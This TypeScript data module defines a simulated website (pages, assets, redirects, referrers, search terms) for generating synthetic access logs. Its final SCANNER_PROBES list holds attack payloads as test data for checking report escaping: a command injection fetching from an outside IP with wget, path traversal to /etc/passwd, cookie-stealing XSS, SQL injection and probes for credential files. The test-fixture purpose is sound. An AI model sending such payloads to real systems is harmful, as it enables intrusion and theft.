/**
 * The simulated site as plain data: its host names, pages (most popular first), the static
 * assets of two successive builds, media that browsers fetch with Range requests, redirects,
 * broken internal links, external referrers, and the paths scanners probe (with the attack
 * payloads they carry: attacker-controlled text that reports must escape).
 *
 * Paths, queries and referrers hold TRUE decoded values (`/blog/café-au-lait`, real spaces);
 * the writers percent-encode them the way CloudFront does.
 */

export { EDGE_LOCATIONS, type EdgeLocation, edgeLocation } from '../../format/edgeLocations.js';

/** The Amplify app and the names it answers to. */
export const SITE = {
  appId: 'd1a2b3c4d5e6f7',
  /** `cs(Host)`: Amplify's internal CloudFront name. */
  cloudFrontHost: 'd1a2b3c4d5e6f7.cloudfront.net',
  /** `x-host-header` values with their share of requests. */
  hostHeaders: [
    ['www.example-shop.com', 0.93],
    ['main.d1a2b3c4d5e6f7.amplifyapp.com', 0.07],
  ],
} as const;

export interface PageDef {
  readonly path: string;
  /** HTML body bytes as served (compressed). */
  readonly bytes: number;
  /** Images the page embeds, beyond the common bundle. */
  readonly images?: readonly string[];
  /** A media file the page embeds or links to (fetched with Range requests). */
  readonly media?: string;
}

/** HTML pages, most popular first (popularity follows a Zipf curve over this order). */
export const PAGES = [
  { path: '/', bytes: 18_412, images: ['/images/hero.webp'] },
  { path: '/pricing', bytes: 14_207 },
  { path: '/blog/', bytes: 11_930 },
  { path: '/docs/', bytes: 9_814 },
  { path: '/features', bytes: 16_633, images: ['/images/screenshots/dashboard.png'] },
  {
    path: '/blog/we-turned-amplify-logs-into-a-data-lake',
    bytes: 24_118,
    images: ['/images/blog/data-lake.webp'],
  },
  { path: '/docs/getting-started', bytes: 12_402 },
  { path: '/blog/reading-cloudfront-logs', bytes: 21_876, images: ['/images/blog/cloudfront-logs.webp'] },
  { path: '/search', bytes: 6_210 },
  { path: '/product-tour', bytes: 8_944, media: '/media/product-tour.mp4' },
  { path: '/blog/café-au-lait', bytes: 15_320, images: ['/images/blog/café-au-lait.jpg'] },
  { path: '/docs/installation', bytes: 10_990 },
  { path: '/about', bytes: 9_402, images: ['/images/team.webp'] },
  { path: '/contact', bytes: 7_118 },
  { path: '/login', bytes: 4_612 },
  { path: '/signup', bytes: 5_204 },
  { path: '/docs/configuration', bytes: 13_551 },
  { path: '/blog/parquet-vs-csv', bytes: 19_044, images: ['/images/blog/parquet-vs-csv.png'] },
  { path: '/docs/cli', bytes: 15_870 },
  { path: '/changelog', bytes: 22_301 },
  { path: '/customers', bytes: 12_776, images: ['/images/customers/logos.svg'] },
  { path: '/whitepaper', bytes: 7_660, media: '/downloads/amplify-logs-whitepaper.pdf' },
  { path: '/docs/guides/access-logs', bytes: 14_932 },
  { path: '/blog/cost-of-athena-queries', bytes: 17_650, images: ['/images/blog/athena-costs.webp'] },
  { path: '/blog/duckdb-in-the-browser', bytes: 18_229, images: ['/images/blog/duckdb.webp'] },
  { path: '/docs/api', bytes: 16_118 },
  { path: '/integrations', bytes: 11_045 },
  { path: '/blog/naïve-caching-mistakes', bytes: 16_902, images: ['/images/blog/caching.webp'] },
  { path: '/docs/guides/custom-domains', bytes: 11_780 },
  { path: '/docs/faq', bytes: 13_004 },
  { path: '/blog/ssr-vs-ssg', bytes: 20_412 },
  { path: '/security', bytes: 8_802 },
  { path: '/docs/api/authentication', bytes: 10_334 },
  { path: '/blog/hello-world', bytes: 8_115 },
  { path: '/docs/guides/athena', bytes: 15_221 },
  { path: '/blog/2024-year-in-review', bytes: 23_870, images: ['/images/blog/year-in-review.webp'] },
  { path: '/docs/troubleshooting', bytes: 12_090 },
  { path: '/careers', bytes: 9_877 },
  { path: '/docs/reference/log-fields', bytes: 19_640 },
  { path: '/blog/zero-downtime-deploys', bytes: 17_302 },
  { path: '/investors/Annual Report 2024', bytes: 6_514, media: '/downloads/Annual Report 2024.pdf' },
  { path: '/docs/api/webhooks', bytes: 11_410 },
  { path: '/blog/edge-functions-explained', bytes: 18_911 },
  { path: '/docs/guides/redirects', bytes: 10_873 },
  { path: '/privacy', bytes: 12_266 },
  { path: '/terms', bytes: 14_509 },
  { path: '/blog/tags/aws', bytes: 7_940 },
  { path: '/de/', bytes: 18_390, images: ['/images/hero.webp'] },
  { path: '/ja/', bytes: 19_104, images: ['/images/hero.webp'] },
  { path: '/fr/tarifs', bytes: 14_480 },
  { path: '/ja/ブログ/はじめに', bytes: 12_733 },
  { path: '/docs/reference/cli-flags', bytes: 14_026 },
  { path: '/blog/tags/analytics', bytes: 7_532 },
  { path: '/blog/page/2', bytes: 11_204 },
  { path: '/blog/mañana-release-notes', bytes: 13_318 },
  { path: '/blog/page/3', bytes: 10_977 },
  { path: '/status', bytes: 5_870 },
  { path: '/legal/dpa', bytes: 16_660 },
  { path: '/docs/migrating-from-v1', bytes: 12_845 },
  { path: '/blog/tags/performance', bytes: 7_105 },
] as const satisfies readonly PageDef[];

/** The page Hacker News links to on the spike day. */
export const SPIKE_PAGE = '/blog/we-turned-amplify-logs-into-a-data-lake';

export interface AssetDef {
  readonly path: string;
  readonly contentType: string;
  /** Body bytes as served. */
  readonly bytes: number;
}

/**
 * The bundle every page loads, per build: the site is redeployed once during the period, so
 * hashed file names change at `fromShare` of the period (0 = its start, 1 = its end).
 */
export const BUILDS = [
  {
    fromShare: 0,
    bundle: [
      { path: '/assets/index-BfX3k9Qa.js', contentType: 'application/javascript', bytes: 183_402 },
      { path: '/assets/vendor-DkR81xZe.js', contentType: 'application/javascript', bytes: 96_118 },
      { path: '/assets/index-C7pL2mWd.css', contentType: 'text/css', bytes: 12_874 },
    ],
  },
  {
    fromShare: 0.62,
    bundle: [
      { path: '/assets/index-Dq4vN2sT.js', contentType: 'application/javascript', bytes: 186_950 },
      { path: '/assets/vendor-DkR81xZe.js', contentType: 'application/javascript', bytes: 96_118 },
      { path: '/assets/index-Hh5tY0bu.css', contentType: 'text/css', bytes: 13_102 },
    ],
  },
] as const satisfies readonly { fromShare: number; bundle: readonly AssetDef[] }[];

/** Files every page references besides the bundle (fonts load from the stylesheet). */
export const COMMON_ASSETS = [
  { path: '/fonts/inter-var-latin.woff2', contentType: 'font/woff2', bytes: 48_256 },
  { path: '/images/logo.svg', contentType: 'image/svg+xml', bytes: 2_318 },
  { path: '/favicon.ico', contentType: 'image/vnd.microsoft.icon', bytes: 15_086 },
  { path: '/site.webmanifest', contentType: 'application/manifest+json', bytes: 512 },
] as const satisfies readonly AssetDef[];

/** Images and other files referenced from single pages, and files robots fetch. */
export const FILES = [
  { path: '/images/hero.webp', contentType: 'image/webp', bytes: 84_530 },
  { path: '/images/screenshots/dashboard.png', contentType: 'image/png', bytes: 212_004 },
  { path: '/images/team.webp', contentType: 'image/webp', bytes: 61_228 },
  { path: '/images/customers/logos.svg', contentType: 'image/svg+xml', bytes: 18_770 },
  { path: '/images/blog/data-lake.webp', contentType: 'image/webp', bytes: 96_402 },
  { path: '/images/blog/cloudfront-logs.webp', contentType: 'image/webp', bytes: 77_154 },
  { path: '/images/blog/café-au-lait.jpg', contentType: 'image/jpeg', bytes: 143_877 },
  { path: '/images/blog/parquet-vs-csv.png', contentType: 'image/png', bytes: 58_311 },
  { path: '/images/blog/athena-costs.webp', contentType: 'image/webp', bytes: 44_906 },
  { path: '/images/blog/duckdb.webp', contentType: 'image/webp', bytes: 52_660 },
  { path: '/images/blog/caching.webp', contentType: 'image/webp', bytes: 49_013 },
  { path: '/images/blog/year-in-review.webp', contentType: 'image/webp', bytes: 161_245 },
  { path: '/images/og-default.png', contentType: 'image/png', bytes: 64_220 },
  { path: '/robots.txt', contentType: 'text/plain', bytes: 142 },
  { path: '/sitemap.xml', contentType: 'application/xml', bytes: 4_618 },
  { path: '/feed.xml', contentType: 'application/rss+xml', bytes: 28_404 },
] as const satisfies readonly AssetDef[];

/** Large files browsers fetch in pieces: Range requests answered 206. */
export const MEDIA = [
  { path: '/media/product-tour.mp4', contentType: 'video/mp4', bytes: 48_234_112 },
  { path: '/downloads/amplify-logs-whitepaper.pdf', contentType: 'application/pdf', bytes: 2_431_778 },
  { path: '/downloads/Annual Report 2024.pdf', contentType: 'application/pdf', bytes: 1_804_220 },
] as const satisfies readonly AssetDef[];

export interface RedirectDef {
  readonly path: string;
  readonly location: string;
  readonly status: 301 | 302;
  /** `function`: a CloudFront function answers (FunctionGeneratedResponse); `origin`: Amplify does. */
  readonly by: 'function' | 'origin';
}

/** Paths that redirect; visitors and bots still request them through old links. */
export const REDIRECTS = [
  { path: '/blog', location: '/blog/', status: 301, by: 'origin' },
  { path: '/docs', location: '/docs/', status: 301, by: 'origin' },
  { path: '/old-pricing', location: '/pricing', status: 301, by: 'function' },
  { path: '/shop', location: '/pricing', status: 302, by: 'function' },
  { path: '/docs/v1/getting-started', location: '/docs/getting-started', status: 301, by: 'function' },
] as const satisfies readonly RedirectDef[];

/**
 * Broken internal links: a live page links to a page that does not exist, so reports can show
 * "not-found pages with the pages linking to them". `share` is how often a visitor on `from`
 * follows the dead link.
 */
export const BROKEN_LINKS = [
  { from: '/blog/hello-world', to: '/blog/getting-started-guide', share: 0.25 },
  { from: '/docs/faq', to: '/docs/old/setup', share: 0.15 },
  { from: '/blog/2024-year-in-review', to: '/blog/2023-year-in-review', share: 0.3 },
  { from: '/customers', to: '/case-studies/acme', share: 0.2 },
  { from: '/docs/cli', to: '/docs/cli/v1', share: 0.1 },
  { from: '/pricing', to: '/pricing/enterprise', share: 0.03 },
] as const;

/** Form posts: a visitor on `from` submits to `path` with probability `share`. */
export const API_CALLS = [
  { from: '/signup', path: '/api/signup', share: 0.25 },
  { from: '/contact', path: '/api/contact', share: 0.15 },
] as const;

/** Dead URLs that outside links and crawlers still request (404). */
export const DEAD_URLS = ['/blog/2019/01/hello', '/feed', '/amp/', '/blog/page/9', '/index.php'] as const;

export type ReferrerKind = 'search' | 'social' | 'news' | 'dev' | 'newsletter';

export interface ReferrerDef {
  readonly url: string;
  readonly weight: number;
  readonly kind: ReferrerKind;
}

/** External referrers of human landings; direct visits (no referrer) are drawn apart. */
export const REFERRERS = [
  { url: 'https://www.google.com/', weight: 40, kind: 'search' },
  { url: 'https://www.bing.com/', weight: 6, kind: 'search' },
  { url: 'https://duckduckgo.com/', weight: 4, kind: 'search' },
  { url: 'https://www.google.de/', weight: 3, kind: 'search' },
  { url: 'https://search.yahoo.co.jp/', weight: 1, kind: 'search' },
  { url: 'android-app://com.google.android.googlequicksearchbox/', weight: 2, kind: 'search' },
  { url: 'https://t.co/Xk2mPq9ZrB', weight: 4, kind: 'social' },
  { url: 'https://www.facebook.com/', weight: 2, kind: 'social' },
  { url: 'https://l.facebook.com/', weight: 2, kind: 'social' },
  { url: 'https://www.linkedin.com/', weight: 3, kind: 'social' },
  {
    url: 'https://www.reddit.com/r/aws/comments/1c9x2tq/turning_amplify_access_logs_into_parquet/',
    weight: 3,
    kind: 'social',
  },
  { url: 'https://news.ycombinator.com/', weight: 2, kind: 'news' },
  { url: 'https://github.com/example-shop/amplify-logs', weight: 4, kind: 'dev' },
  { url: 'https://stackoverflow.com/questions/70123456/amplify-hosting-access-logs', weight: 2, kind: 'dev' },
  { url: 'https://dev.to/example/reading-cloudfront-logs-4k2j', weight: 1, kind: 'dev' },
  { url: 'https://newsletter.serverless.example/issues/142', weight: 2, kind: 'newsletter' },
  { url: 'https://weekly.devops.example/2024/19', weight: 1, kind: 'newsletter' },
] as const satisfies readonly ReferrerDef[];

/** The Hacker News item page that sends the spike. */
export const SPIKE_REFERRER = 'https://news.ycombinator.com/item?id=40123456';

/** Query strings of landings from campaigns and ads (true decoded values). */
export const LANDING_QUERIES = {
  newsletter: 'utm_source=newsletter&utm_medium=email&utm_campaign=may-2024',
  social: 'utm_source=twitter&utm_medium=social',
  ads: 'gclid=Cj0KCQjw2uiwBhCXARIsACMvIU3bq8yVz&utm_source=google&utm_medium=cpc',
} as const;

/** What visitors type into `/search?q=` (true decoded values: spaces, quotes, non-ASCII). */
export const SEARCH_TERMS = [
  'amplify logs',
  'athena cost per TB',
  'café au lait',
  'naïve bayes',
  '東京 cdn',
  '"access logs"',
  'custom domain',
  'redirects',
  'parquet',
  'x-edge-result-type',
] as const;

export interface ProbeDef {
  readonly path: string;
  readonly query?: string;
  readonly method?: 'GET' | 'POST' | 'HEAD' | 'OPTIONS';
  /** Status the site answers; 200 where the path exists (an attack payload echoed into a page). */
  readonly status: 200 | 204 | 400 | 403 | 404;
  /** A Referer header the scanner forges. */
  readonly referrer?: string;
}

/** What scanners ask for. Payloads are deliberate: they test HTML escaping downstream. */
export const SCANNER_PROBES = [
  { path: '/wp-login.php', status: 404 },
  { path: '/wp-login.php', method: 'POST', status: 403 },
  { path: '/wp-admin/', status: 404 },
  { path: '/', method: 'OPTIONS', status: 204 },
  { path: '/wp-admin/setup-config.php', query: 'step=1', status: 404 },
  { path: '/xmlrpc.php', method: 'POST', status: 403 },
  { path: '/.env', status: 404 },
  { path: '/.env.production', status: 404 },
  { path: '/.git/config', status: 404 },
  { path: '/.git/HEAD', status: 404 },
  { path: '/.aws/credentials', status: 404 },
  { path: '/phpmyadmin/', status: 404 },
  { path: '/pma/index.php', status: 404 },
  { path: '/server-status', status: 404 },
  { path: '/.DS_Store', status: 404 },
  { path: '/backup.zip', status: 404 },
  { path: '/actuator/env', status: 404 },
  { path: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', method: 'POST', status: 403 },
  {
    path: '/cgi-bin/luci/;stok=/locale',
    query: 'form=country&operation=write&country=$(id>`wget -O- http://203.0.113.9/t`)',
    status: 404,
  },
  { path: '/cgi-bin/../../../../etc/passwd', status: 400 },
  {
    path: '/index.php',
    query:
      's=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP',
    status: 404,
  },
  { path: '/search', query: 'q=<script>alert(1)</script>', status: 200 },
  { path: '/search', query: "q=' OR 1=1--", status: 200 },
  { path: '/products/"><img src=x onerror=alert(1)>', status: 404 },
  { path: '/api/users', query: "id=1' OR 1=1--", status: 404 },
  {
    path: '/login',
    query: 'next=../../etc/passwd',
    status: 200,
    referrer: 'https://evil.example/"><script>alert(document.cookie)</script>',
  },
  { path: '/download', query: 'file=../../../../etc/passwd', status: 404 },
  { path: '/owa/auth/logon.aspx', status: 404 },
  { path: '/HNAP1/', status: 404 },
  { path: '/boaform/admin/formLogin', method: 'POST', status: 403 },
] as const satisfies readonly ProbeDef[];
